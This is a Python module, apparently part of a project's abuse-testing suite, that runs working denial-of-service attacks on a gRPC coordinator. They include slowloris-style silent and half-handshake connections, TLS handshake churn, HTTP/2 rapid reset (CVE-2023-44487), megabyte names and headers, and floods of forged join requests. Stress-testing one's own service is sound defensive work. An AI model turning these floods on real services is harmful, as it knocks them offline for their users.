"""Attacks that need no session."""

from __future__ import annotations

import os
import select
import socket
import ssl
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from functools import partial
from typing import Any

import grpc

from abuse.target import Target, trusting
from support.raw_calls import CALL_S, hello, join
from thinwire_node.exchange.coordinator.dial import prove
from thinwire_proto.identity.keys import SecretKey
from thinwire_proto.wire import service_pb2 as pb
from thinwire_proto.wire.metadata import REASON
from thinwire_proto.wire.negotiation import PROTOCOL
from thinwire_proto.wire.service_pb2_grpc import SwarmStub

SILENT, AGAIN_S = 500, 0.2
"""Connections to each address, and the pause before those that ended are opened again."""
HANDSHAKES, SHAKES_AT_A_TIME, SHAKE_PAUSE_S, CONNECT_S = 2000, 8, 10.0, 10.0
STREAMS, STREAM_PAUSE_S = 2000, 0.5
JOINS, JOINING, UNDER_WAY = 10_000, 24, 32
"""Bad joins, their connections, and how many are under way on one: as many as the coordinator allows, so that refusals
that come late do not slow them."""
KINDS = ("proof", "challenge", "token")
NEVER_GIVEN = pb.HelloReply(public_key=bytes(32), challenge=bytes(40))
NAME = "\N{SNOWMAN}" * (1_000_000 // 3)


def silent_connections(target: Target) -> None:
    """Connections that send nothing."""
    _hold(target, [target.address], b"", "connections")


def begun_handshakes(target: Target) -> None:
    """Connections to the port of gRPC and to the page that send the first half of a client's first message."""
    sent = ssl.MemoryBIO()
    client = trusting().wrap_bio(ssl.MemoryBIO(), sent)
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    first = sent.read()
    _hold(target, [target.address, *target.pages], first[: len(first) // 2], "handshakes begun")


def _hold(target: Target, addresses: list[str], first: bytes, what: str) -> None:
    with ExitStack() as kept:
        holders = [kept.enter_context(_Held(target, one, first, what)) for one in addresses]
        while not target.stop.is_set():
            for holder in holders:
                holder.fill()
            target.stop.wait(AGAIN_S)
            for holder in holders:
                holder.drop_ended()


class _Held:
    """SILENT connections to one address, each of which has sent `first`."""

    def __init__(self, target: Target, address: str, first: bytes, what: str) -> None:
        host, _, port = address.rpartition(":")
        self._address = host, int(port)
        self._target, self._first, self._what = target, first, what
        self._open: dict[int, socket.socket] = {}

    def __enter__(self) -> _Held:
        return self

    def __exit__(self, *_: object) -> None:
        for one in self._open.values():
            one.close()

    def fill(self) -> None:
        while len(self._open) < SILENT and not self._target.stop.is_set():
            try:
                one = socket.create_connection(self._address, CONNECT_S)
            except OSError:
                self._target.count("refused connections")
                return
            self._open[one.fileno()] = one
            with suppress(OSError):  # closed already
                one.sendall(self._first)
            self._target.count(self._what)

    def drop_ended(self) -> None:
        poll = select.poll()
        for file in self._open:
            poll.register(file, select.POLLIN)
        for file, _ in poll.poll(0):
            if _has_ended(self._open[file]):
                self._open.pop(file).close()


def _has_ended(one: socket.socket) -> bool:
    """Read what came; the server sends its settings first."""
    with suppress(OSError):
        return not one.recv(1 << 12)
    return True


def dropped_handshakes(target: Target) -> None:
    """Complete TLS handshakes, each dropped at once, with the port of gRPC and with the page; again after a while."""
    context, addresses = trusting(), [target.address, *target.pages]

    def shake(address: str) -> None:
        if target.stop.is_set():
            return
        host, _, port = address.rpartition(":")
        try:
            with socket.create_connection((host, int(port)), CONNECT_S) as plain, context.wrap_socket(plain):
                target.count("handshakes")
        except OSError:
            target.count("handshakes refused")

    with ThreadPoolExecutor(SHAKES_AT_A_TIME) as pool:
        while not target.stop.is_set():
            list(pool.map(shake, [addresses[number % len(addresses)] for number in range(HANDSHAKES)]))
            target.stop.wait(SHAKE_PAUSE_S)


def dropped_streams(target: Target) -> None:
    """Streams opened and dropped at once, again and again (CVE-2023-44487, rapid reset)."""
    while not target.stop.wait(STREAM_PAUSE_S):
        try:
            with target.raw() as client:
                for _ in range(STREAMS):
                    client.drop(client.open("Status"))
                    target.count("streams")
        except OSError:
            target.count("connections ended")


def long_names(target: Target) -> None:
    """Joins under a name of a megabyte, and headers of a megabyte."""

    def attempt(what: str, call: Callable[[], object]) -> None:
        try:
            call()
            target.count(f"{what} admitted")
        except grpc.RpcError as error:
            target.count(f"{what} refused: {error.code().name.lower()}")

    while not target.stop.is_set():
        with target.channel() as channel:
            stub = SwarmStub(channel)
            attempt("names", partial(join, stub, SecretKey(), target.token, name=NAME))
            headers = (("x-name", "n" * 1_000_000),)
            attempt("headers", partial(stub.Status, pb.StatusRequest(), metadata=headers, timeout=CALL_S))


def bad_enrolments(target: Target) -> None:
    """Joins whose proof is wrong, whose challenge was never given, or whose token does not exist, without a pause."""
    with ThreadPoolExecutor(JOINING) as pool:
        for _ in range(JOINING):
            pool.submit(_join_badly, target)


def _join_badly(target: Target) -> None:
    key, room = SecretKey(), threading.Semaphore(UNDER_WAY)
    with target.channel() as channel:
        stub, reply = SwarmStub(channel), NEVER_GIVEN
        for number in range(JOINS // JOINING):
            if target.stop.is_set():
                return
            if number % UNDER_WAY == 0:
                reply = _hello(target, stub) or reply
            kind = KINDS[number % (len(KINDS) if target.token else 2)]  # without invites, every token is as good
            answered = NEVER_GIVEN if kind == "challenge" else reply
            fields: dict[str, Any] = {"protocol": PROTOCOL, **prove(key, os.urandom(16), answered)}
            if kind == "proof":
                fields["signature"] = bytes(64)
            room.acquire()
            target.count("Join")
            joining: Any = stub.Join.future(pb.JoinRequest(**fields), timeout=CALL_S)

            def ended(joining: Any) -> None:
                target.count(f"refused: {_reason(joining)}")
                room.release()

            joining.add_done_callback(ended)
        for _ in range(UNDER_WAY):
            room.acquire()


def _hello(target: Target, stub: SwarmStub) -> pb.HelloReply | None:
    target.count("Hello")
    try:
        return hello(stub)
    except grpc.RpcError as error:
        target.count(f"refused: {_reason(error)}")
        return None


def _reason(refused: Any) -> str:
    if refused.code() == grpc.StatusCode.OK:
        return "not at all"
    reasons = [str(value) for key, value in refused.trailing_metadata() or () if key == REASON]
    return " ".join(reasons) or str(refused.code().name.lower())
